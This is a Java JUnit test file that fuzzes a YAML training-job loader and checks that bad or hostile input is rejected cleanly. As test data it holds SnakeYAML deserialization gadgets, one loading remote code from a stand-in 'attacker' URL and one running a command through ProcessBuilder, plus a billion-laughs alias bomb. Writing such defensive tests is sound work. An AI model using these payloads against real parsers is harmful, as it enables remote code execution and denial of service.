package org.qalora.driver.config;

import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assertions.fail;

import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.SplittableRandom;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Bad-input fuzzing of YAML job files: a fixed seed, a bounded count of mutations of a valid job (values replaced by
 * wrong types, tags, anchors, nested structures; lines dropped or duplicated; random characters). Each either loads
 * or fails with one IllegalArgumentException naming the file; never another exception type, never a hang. Global
 * tags are refused, not instantiated.
 */
class JobFileFuzzTest {
    private static final long SEED = 0x7A_3L;
    private static final int MUTATIONS = 400;
    private static final String NAME = "/jobs/train.yaml";

    private static final String VALID = """
            model: hdfs://nn/models/llama-7b
            data: [hdfs://nn/data/a.jsonl, hdfs://nn/data/b.jsonl]
            output: /out/run1
            eval-data: hdfs://nn/data/dev.jsonl
            eval-every: 2
            rounds: 10
            steps-per-round: 8
            slots: 4
            batch-size: 32
            group-by-length: off
            micro-batch-tokens: 1024
            seed: 7
            bits: 4
            group-size: 32
            rank: 16
            alpha: 32.0
            lr: 2.0e-4
            pooling: mean
            dropout: 0.05
            keep-rounds: 2
            device: cpu
            precision: fp32
            recompute: false
            """;

    private static final List<String> VALUES = List.of("", "~", "-1", "0", "1e400", "-.inf", ".nan", "9223372036854775808",
            "99999999999999999999999", "3.5", "[1, 2]", "{a: 1}", "true", "'x'", "!!binary AAAA", "!!str 5",
            "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]",
            "!!java.io.File /etc", "&a [*a]", "*undefined", "!!float abc", "!!int 1.5", "2026-12-06", "\"\\u0000\"",
            "[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[1]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]");

    @Test
    void mutatedJobFilesFailCleanly() {
        load(VALID);   // the base job is valid
        List<String> lines = VALID.lines().toList();
        SplittableRandom random = new SplittableRandom(SEED);
        int[] rejected = {0};
        assertTimeoutPreemptively(Duration.ofSeconds(10), () -> {
            for (int i = 0; i < MUTATIONS; i++) {
                List<String> m = new ArrayList<>(lines);
                int at = random.nextInt(m.size());
                String key = m.get(at).substring(0, m.get(at).indexOf(':'));
                String text;
                switch (random.nextInt(5)) {
                    case 0, 1 -> { m.set(at, key + ": " + VALUES.get(random.nextInt(VALUES.size()))); text = String.join("\n", m); }
                    case 2 -> { m.add(random.nextInt(m.size()), m.get(at)); text = String.join("\n", m); }   // duplicate key
                    case 3 -> { m.set(at, "  " + m.get(at)); text = String.join("\n", m); }                   // bad indent
                    default -> {
                        char[] c = VALID.toCharArray();
                        for (int k = random.nextInt(1, 4); k > 0; k--) {
                            c[random.nextInt(c.length)] = NOISE.charAt(random.nextInt(NOISE.length()));
                        }
                        text = new String(c);
                    }
                }
                try {
                    load(text);
                } catch (IllegalArgumentException e) {
                    rejected[0]++;
                    assertTrue(e.getMessage().contains(NAME), "mutation " + i + ": message does not name the file: "
                            + e.getMessage() + "\n" + text);
                } catch (Throwable t) {
                    fail("mutation " + i + ": expected an IllegalArgumentException, got " + t + "\n" + text, t);
                }
            }
        });
        assertTrue(rejected[0] > MUTATIONS / 3, "too few mutations rejected: " + rejected[0]);
    }

    private static final String NOISE = ":-[]{}!&*|>#'\"%@`\t \n0123456789abcxyz";

    private static TrainJob load(String text) {
        Map<String, Object> yaml = TrainJobLoader.parseYaml(text, NAME);
        return TrainJobLoader.build(NAME, TrainJobLoader.defaults("/repo"), yaml);
    }

    /** Global tags that would construct Java objects under SnakeYAML's default constructor are refused. */
    @ParameterizedTest
    @ValueSource(strings = {
        "model: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker/\"]]]]",
        "!!java.util.HashMap {rounds: 3}",
        "rounds: !!java.lang.ProcessBuilder [[touch, /tmp/pwned]]"})
    void arbitraryTypesAreRefused(String text) {
        IllegalArgumentException e = assertThrows(IllegalArgumentException.class, () -> load(text));
        assertTrue(e.getMessage().contains(NAME) && e.getMessage().contains("not valid YAML"), e.getMessage());
        assertTrue(e.getMessage().contains("Global tag is not allowed"), e.getMessage());
    }

    /** Regression: a repeated key silently kept the last value ("rounds: 3" then "rounds: 300"). */
    @Test
    void duplicateKeysAreRefused() {
        IllegalArgumentException e = assertThrows(IllegalArgumentException.class,
                () -> load("rounds: 3\nslots: 2\nrounds: 300\n"));
        assertTrue(e.getMessage().contains(NAME) && e.getMessage().contains("rounds"), e.getMessage());
    }

    /** Regression: settings rejected by TrainJob itself ("bad train settings: ...") did not name the file. */
    @Test
    void rangeErrorsNameTheFile() {
        IllegalArgumentException e = assertThrows(IllegalArgumentException.class, () -> load("bits: 9\n"));
        assertTrue(e.getMessage().startsWith(NAME + ": ") && e.getMessage().contains("bits"), e.getMessage());
    }

    /** Regression: an explicit scalar tag SnakeYAML cannot honour escaped as a bare NumberFormatException. */
    @ParameterizedTest
    @ValueSource(strings = {"recompute: !!float abc", "rounds: !!int 1.5"})
    void badScalarTagsNameTheFile(String text) {
        IllegalArgumentException e = assertThrows(IllegalArgumentException.class, () -> load(text));
        assertTrue(e.getMessage().contains(NAME) && e.getMessage().contains("not valid YAML"), e.getMessage());
    }

    /** A billion-laughs document stops at SnakeYAML's alias limit instead of expanding. */
    @Test
    void aliasBombsAreRefused() {
        StringBuilder b = new StringBuilder("a0: &a0 [x, x, x, x, x, x, x, x, x]\n");
        for (int i = 1; i < 10; i++) {
            b.append("a").append(i).append(": &a").append(i).append(" [");
            for (int k = 0; k < 9; k++) {
                b.append(k == 0 ? "" : ", ").append("*a").append(i - 1);
            }
            b.append("]\n");
        }
        IllegalArgumentException e = assertTimeoutPreemptively(Duration.ofSeconds(5),
                () -> assertThrows(IllegalArgumentException.class, () -> load(b.toString())));
        assertTrue(e.getMessage().contains(NAME), e.getMessage());
    }
}
